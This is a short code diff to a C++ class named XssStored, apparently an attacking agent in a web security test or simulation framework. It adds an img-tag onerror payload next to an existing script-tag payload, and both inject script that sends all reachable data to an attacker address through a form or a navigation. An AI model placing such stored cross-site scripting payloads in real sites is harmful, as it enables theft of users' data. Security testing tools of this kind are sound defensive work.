@@ -21,8 +21,11 @@ class XssStored final : public Agent {
             text.leave(each);
         victim_reads_and_loot_is_used(target);
         // These leave the page, so that they come last and alone.
-        for (Channel channel : {Channel::Form, Channel::Navigation})
-            text.leave("<script>" + send_script(channel, address, kAllInReach) + "</script>");
+        for (Channel channel : {Channel::Form, Channel::Navigation}) {
+            std::string const script = send_script(channel, address, kAllInReach);
+            text.leave("<script>" + script + "</script>");
+            text.leave("<img src=\"x:\" onerror=" + in_quotes(script) + ">");
+        }
         victim_reads_and_loot_is_used(target);
     }
 
